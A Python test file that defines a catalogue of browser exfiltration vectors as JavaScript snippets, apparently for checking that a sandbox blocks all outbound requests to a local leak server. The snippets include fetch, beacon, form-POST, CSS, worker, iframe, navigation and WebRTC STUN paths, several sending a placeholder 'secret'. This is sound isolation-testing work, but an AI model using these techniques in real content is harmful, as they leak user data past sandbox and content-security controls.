"""The "network" attack vectors: each would reach the leak server if nothing blocked it.

Each uses its own path ``/leak/<name>`` (``url`` inside the body), so a recorded request names
its vector; STUN vectors show up as UDP datagrams and ``link-preconnect`` as a bare TCP
connection instead. The format of a vector: `support.attack_vector`.
"""

from __future__ import annotations

from support.attack_vector import Vector


def _element(tag: str, attribute: str, events: str = '"load", "error"') -> str:
    """Body that attaches ``<tag attribute=url>`` and waits for it to load or fail."""
    return f"""
    const element = document.createElement("{tag}");
    const done = outcome(element, [{events}]);
    element.{attribute} = url;
    root.appendChild(element);
    return {{ ok: true, value: await done }};
"""


def _style(css: str, probe: str = "") -> str:
    """Body that adds a ``<style>`` element with ``css`` and a probe element that uses it."""
    return f"""
    const style = document.createElement("style");
    style.textContent = `{css}`;
    (document.head || root).appendChild(style);
    const probe = document.createElement("div");
    probe.className = "attack-probe";
    probe.textContent = "leak";
    root.appendChild(probe);
    {probe}
    const rules = style.sheet ? style.sheet.cssRules.length : null;
    return {{ ok: style.sheet !== null, value: {{ rules }} }};
"""


def _link(rel: str, extra: str = "", ms: int = 1000) -> str:
    """Body that adds ``<link rel=rel href=url>`` to the head and waits up to ``ms``."""
    return f"""
    const link = document.createElement("link");
    link.rel = "{rel}";
    {extra}
    const done = outcome(link, ["load", "error"], {ms});
    link.href = url;
    (document.head || root).appendChild(link);
    return {{ ok: true, value: await done }};
"""


def _worker(source: str, make_url: str) -> str:
    """Body that starts a worker running ``source`` (JS building a string) from ``make_url``."""
    return f"""
    const source = {source};
    const worker = new Worker({make_url});
    const reply = await new Promise((resolve) => {{
      worker.onmessage = (event) => resolve(event.data);
      worker.onerror = (event) => resolve("error: " + (event.message || "failed to start"));
      setTimeout(() => resolve("timeout"), 1500);
    }});
    worker.terminate();
    return {{ ok: typeof reply === "string" && reply.startsWith("status"), value: reply }};
"""


_WORKER_FETCH = (
    "`fetch(${JSON.stringify(url)}).then((r) => postMessage('status ' + r.status),"
    " (e) => postMessage('error: ' + e))`"
)
_WORKER_IMPORT = (
    "`try { importScripts(${JSON.stringify(url)}); postMessage('status imported'); }"
    " catch (e) { postMessage('error: ' + e); }`"
)
_BLOB_URL = 'URL.createObjectURL(new Blob([source], { type: "text/javascript" }))'
_DATA_URL = '"data:text/javascript," + encodeURIComponent(source)'

_RTC = """
    const Peer = %(constructor)s;
    const peer = new Peer({ iceServers: [{ urls: `stun:${leak.host}:${leak.udpPort}` }] });
    const candidates = [];
    peer.onicecandidate = (event) => {
      if (event.candidate) candidates.push(event.candidate.type);
    };
    peer.createDataChannel("leak");
    await peer.setLocalDescription(await peer.createOffer());
    // ICE gathering sends the STUN binding requests; give it time to reach the server.
    for (let waited = 0; waited < 1500 && peer.iceGatheringState !== "complete"; waited += 50) {
      await sleep(50);
    }
    peer.close();
    return { ok: true, value: { candidates } };
"""

_NESTED_WINDOW = """
    const frame = document.createElement("iframe");
    frame.style.display = "none";
    root.appendChild(frame);
    // An about:blank child shares this document's origin: its globals are fresh copies.
    const child = frame.contentWindow;
"""

NETWORK: list[Vector] = [
    Vector(
        "fetch",
        "network",
        """
    const response = await fetch(url);
    return { ok: true, value: response.status };
""",
    ),
    Vector(
        "fetch-no-cors",
        "network",
        """
    const response = await fetch(url, { mode: "no-cors" });
    return { ok: true, value: response.type };
""",
    ),
    Vector(
        "fetch-keepalive",
        "network",
        """
    const response = await fetch(url, { method: "POST", body: "secret", keepalive: true });
    return { ok: true, value: response.status };
""",
    ),
    Vector(
        "fetch-via-iframe",
        "network",
        _NESTED_WINDOW
        + """
    const response = await child.fetch(url, { mode: "no-cors" });
    return { ok: true, value: response.type };
""",
    ),
    Vector(
        "xhr",
        "network",
        """
    const xhr = new XMLHttpRequest();
    xhr.open("GET", url);
    const done = outcome(xhr, ["load", "error"]);
    xhr.send();
    return { ok: true, value: await done };
""",
    ),
    Vector(
        "websocket",
        "network",
        """
    const socket = new WebSocket(url.replace(/^http/, "ws"));
    const event = await outcome(socket, ["open", "error", "close"]);
    socket.close();
    return { ok: true, value: event };
""",
    ),
    Vector(
        "eventsource",
        "network",
        """
    const source = new EventSource(url);
    const event = await outcome(source, ["open", "error"]);
    source.close();
    return { ok: true, value: event };
""",
    ),
    Vector(
        "send-beacon",
        "network",
        """
    const queued = navigator.sendBeacon(url, "secret");
    await sleep(100);
    return { ok: queued, value: queued };
""",
    ),
    Vector(
        "image-object",
        "network",
        """
    const image = new Image();
    const done = outcome(image, ["load", "error"]);
    image.src = url;
    return { ok: true, value: await done };
""",
    ),
    Vector("img-element", "network", _element("img", "src")),
    Vector(
        "css-background",
        "network",
        _style(
            ".attack-probe { background-image: url('${url}'); width: 10px; height: 10px; }",
            "getComputedStyle(probe).backgroundImage; await sleep(100);",
        ),
    ),
    Vector(
        "cssom-background",
        "network",
        """
    // What a React style={{backgroundImage}} prop does: CSSOM, not a <style> element.
    const probe = document.createElement("div");
    probe.style.width = "10px";
    probe.style.height = "10px";
    probe.style.backgroundImage = `url("${url}")`;
    root.appendChild(probe);
    getComputedStyle(probe).backgroundImage;
    await sleep(100);
    return { ok: true, value: probe.style.backgroundImage };
""",
    ),
    Vector("css-import", "network", _style("@import url('${url}');", "await sleep(100);")),
    Vector(
        "css-font-face",
        "network",
        _style(
            "@font-face { font-family: 'attack-font'; src: url('${url}'); }"
            " .attack-probe { font-family: 'attack-font'; }",
            "await document.fonts.load(\"16px 'attack-font'\").catch(() => null);"
            " await sleep(100);",
        ),
    ),
    Vector(
        "font-face-api",
        "network",
        """
    const face = new FontFace("attack-font-api", `url("${url}")`);
    const status = await face.load().then(() => "loaded", (error) => String(error));
    return { ok: true, value: status };
""",
    ),
    Vector("link-stylesheet", "network", _link("stylesheet")),
    Vector("link-prefetch", "network", _link("prefetch")),
    Vector("link-preload", "network", _link("preload", 'link.as = "image";')),
    Vector(
        "link-preconnect",
        "network",
        # No load or error event ever fires for a preconnect: do not wait long.
        _link("preconnect", ms=300),
        evidence="connect",
        control=False,
        reason="this headless Chromium opened no connection for rel=preconnect even from an "
        "ordinary page; kept so a bare TCP connect from the sandbox would still be caught",
    ),
    Vector("script-src", "network", _element("script", "src")),
    Vector(
        "dynamic-import",
        "network",
        """
    const status = await import(url).then(() => "imported", (error) => String(error));
    return { ok: true, value: status };
""",
    ),
    Vector(
        "worker-url",
        "network",
        """
    const worker = new Worker(url);
    const event = await outcome(worker, ["error"], 500);
    worker.terminate();
    return { ok: true, value: event };
""",
        control=False,
        reason="Worker scripts must be same-origin: Chromium throws SecurityError before any "
        "request (the blob: and data: worker vectors cover workers)",
    ),
    Vector("blob-worker-fetch", "network", _worker(_WORKER_FETCH, _BLOB_URL)),
    Vector("blob-worker-import-scripts", "network", _worker(_WORKER_IMPORT, _BLOB_URL)),
    Vector("data-worker-fetch", "network", _worker(_WORKER_FETCH, _DATA_URL)),
    Vector(
        "service-worker",
        "network",
        """
    const registration = await navigator.serviceWorker.register(url);
    return { ok: true, value: registration.scope };
""",
        control=False,
        reason="a service worker script must be same-origin with the page: registration is "
        "rejected before any request (and opaque origins have no service workers)",
    ),
    Vector("iframe-src", "network", _element("iframe", "src", '"load"')),
    Vector(
        "iframe-srcdoc",
        "network",
        """
    const frame = document.createElement("iframe");
    const done = outcome(frame, ["load"]);
    frame.srcdoc = `<img src="${url}">`;
    root.appendChild(frame);
    await done;
    await sleep(100);
    return { ok: true, value: "loaded" };
""",
    ),
    Vector(
        "form-submit",
        "network",
        """
    // Targets a child frame so the page itself stays to report.
    const frame = document.createElement("iframe");
    frame.name = "attack-form-target";
    root.appendChild(frame);
    const form = document.createElement("form");
    form.method = "POST";
    form.action = url;
    form.target = frame.name;
    const input = document.createElement("input");
    input.type = "hidden";
    input.name = "secret";
    input.value = "42";
    form.appendChild(input);
    root.appendChild(form);
    const done = outcome(frame, ["load"]);
    form.submit();
    return { ok: true, value: await done };
""",
    ),
    Vector(
        "a-ping",
        "network",
        """
    // Hyperlink auditing: following the link POSTs to every URL in ping.
    const anchor = document.createElement("a");
    anchor.href = "#attack-ping";
    anchor.ping = url;
    anchor.textContent = "ping";
    root.appendChild(anchor);
    anchor.click();
    await sleep(100);
    return { ok: true, value: location.hash };
""",
    ),
    Vector(
        "window-open",
        "network",
        """
    const opened = window.open(url, "_blank");
    await sleep(100);
    return { ok: opened !== null, value: opened !== null };
""",
    ),
    Vector(
        "anchor-click-blank",
        "network",
        """
    const anchor = document.createElement("a");
    anchor.href = url;
    anchor.target = "_blank";
    root.appendChild(anchor);
    anchor.click();
    await sleep(100);
    return { ok: true, value: "clicked" };
""",
    ),
    Vector(
        "anchor-click",
        "network",
        """
    const anchor = document.createElement("a");
    anchor.href = url;
    root.appendChild(anchor);
    anchor.click();
    return { ok: true, value: "navigating" };
""",
        navigates=True,
    ),
    Vector(
        "self-navigation",
        "network",
        """
    location.href = url;
    return { ok: true, value: "navigating" };
""",
        navigates=True,
    ),
    Vector(
        "top-navigation",
        "network",
        """
    top.location.href = url;
    return { ok: true, value: "navigating" };
""",
        navigates=True,
    ),
    Vector(
        "meta-refresh",
        "network",
        """
    const meta = document.createElement("meta");
    meta.httpEquiv = "refresh";
    meta.content = `0;url=${url}`;
    (document.head || root).appendChild(meta);
    return { ok: true, value: "refreshing" };
""",
        navigates=True,
    ),
    Vector("video-src", "network", _element("video", "src", '"loadeddata", "error"')),
    Vector("audio-src", "network", _element("audio", "src", '"loadeddata", "error"')),
    Vector("object-data", "network", _element("object", "data")),
    Vector("embed-src", "network", _element("embed", "src")),
    Vector(
        "svg-image",
        "network",
        """
    const svg = document.createElementNS("http://www.w3.org/2000/svg", "svg");
    const image = document.createElementNS("http://www.w3.org/2000/svg", "image");
    const done = outcome(image, ["load", "error"]);
    image.setAttribute("href", url);
    image.setAttribute("width", "10");
    image.setAttribute("height", "10");
    svg.appendChild(image);
    root.appendChild(svg);
    return { ok: true, value: await done };
""",
    ),
    Vector("rtc-stun", "network", _RTC % {"constructor": "window.RTCPeerConnection"}, "udp"),
    Vector(
        "webkit-rtc-stun",
        "network",
        _RTC % {"constructor": "window.webkitRTCPeerConnection"},
        "udp",
    ),
    Vector(
        "rtc-stun-via-iframe",
        "network",
        _NESTED_WINDOW.rstrip() + _RTC % {"constructor": "child.RTCPeerConnection"},
        "udp",
    ),
]
